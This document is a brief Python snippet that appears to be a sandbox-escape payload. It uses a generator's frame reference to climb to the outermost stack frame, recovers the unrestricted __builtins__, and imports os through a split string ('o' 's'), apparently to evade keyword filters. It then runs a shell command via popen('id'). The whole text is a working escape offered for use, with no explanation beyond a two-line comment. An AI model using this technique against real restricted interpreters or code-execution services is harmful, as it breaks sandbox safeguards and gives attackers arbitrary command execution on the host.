# A running generator can see who resumed it via gi_frame.f_back; climb to
# the outermost frame and take __import__ from its __builtins__.
def peek():
    yield g.gi_frame.f_back


g = peek()
outer = next(g)
while outer.f_back:
    outer = outer.f_back
b = outer.f_globals['__builtins__']
b = b.__dict__ if hasattr(b, '__dict__') else b
print(b['__import__']('o' 's').popen('id').read())
